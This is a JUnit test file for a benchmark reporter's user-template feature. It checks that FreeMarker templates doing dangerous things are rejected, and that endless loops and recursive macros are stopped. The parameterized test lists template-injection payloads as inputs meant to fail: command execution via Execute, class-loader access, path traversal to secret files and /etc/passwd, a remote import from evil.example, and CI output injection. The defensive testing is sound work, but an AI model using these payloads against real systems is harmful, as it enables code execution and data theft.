package io.github.gobenchreporter.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import io.github.gobenchreporter.ReporterException;
import io.github.gobenchreporter.report.markdown.Destination;
import io.github.gobenchreporter.report.markdown.ReportMarkdown;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class UserTemplatesTest {
  /** That it ends is what is tested; how soon is the machine's business. */
  private static final Duration FOREVER = Duration.ofMinutes(10);

  @TempDir private Path folder;

  @Test
  void aTemplateOfTheUsersTakesThePlaceOfOurs() throws IOException {
    template("${icon} ${verdict} <#list regressions as t>${t.rows?size}</#list> ${\"<@x|\"}\n");
    assertEquals(
        "🔴 1 regression in 2 benchmarks on M3 Max 1 &lt;＠x&#124;\n",
        ReportMarkdown.render(Reports.oneChip(), Destination.FILE, folder));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
        "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.io.File\", \"x\")}",
        "${verdict?api.class}",
        "${.data_model.class}",
        "${settle.class.classLoader}",
        "${regressions[0].getClass()}",
        "${regressions[0].class.protectionDomain}",
        "${icon.getBytes()}",
        "<#include \"../secret.txt\">",
        "<#include \"/../secret.txt\">",
        "<#import \"http://evil.example/x.ftl\" as x>",
        "${nothing}",
        "${\"freemarker.template.utility.JythonRuntime\"?new()}",
        "<#assign x = \"java.lang.Runtime\"?new()>",
        "${regressions?api}",
        "${.main_template_name?api}",
        "${.get_optional_template('../secret.txt').include()}",
        "<#include \"file:///etc/passwd\">",
        "<#include \"classpath:/application.properties\">",
        "<#include \"*/secret.txt\">",
        "<#import \"/../../secret.txt\" as x>",
        "${\"<#include '../secret.txt'>\"?interpret?keep_after('x')}",
        "<@(\"<#include '../secret.txt'>\"?interpret) />",
        "${\"1 + nothing\"?eval}",
        "${icon.class.forName('java.lang.Runtime')}",
        "${.globals.class}",
        "${.namespace.java}",
        "<#setting template_exception_handler='debug'>",
        "<#stop \"::error::stopped\\n::set-output name=x::y\">",
        "<#list",
      })
  void whatATemplateHasNoBusinessWithIsRefusedInOneLine(String text) throws IOException {
    Files.writeString(folder.resolveSibling("secret.txt"), "secret");
    template(text);
    ReporterException e =
        assertThrows(
            ReporterException.class,
            () -> ReportMarkdown.render(Reports.oneChip(), Destination.FILE, folder));
    assertEquals(1, e.getMessage().lines().count());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<#list 1..2000000000 as i></#list>",
        "<#list 1..2000000000 as i>xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx</#list>",
      })
  void aTemplateWithoutEndIsStopped(String text) throws IOException {
    template(text);
    Templates templates = UserTemplates.of(folder, Duration.ofSeconds(2));
    assertTimeoutPreemptively(
        FOREVER,
        () ->
            assertThrows(
                ReporterException.class,
                () -> ReportMarkdown.render(Reports.oneChip(), Destination.FILE, templates)));
  }

  @Test
  void aMacroThatCallsItselfWithoutEndIsNamed() throws IOException {
    template("<#macro m><@m/></#macro><@m/>");
    ReporterException e =
        assertThrows(
            ReporterException.class,
            () -> ReportMarkdown.render(Reports.oneChip(), Destination.FILE, folder));
    assertEquals(
        "--templates %s: report.md.ftl has a macro that calls itself without end".formatted(folder),
        e.getMessage());
  }

  private void template(String text) throws IOException {
    Files.writeString(folder.resolve("report.md.ftl"), text);
  }
}
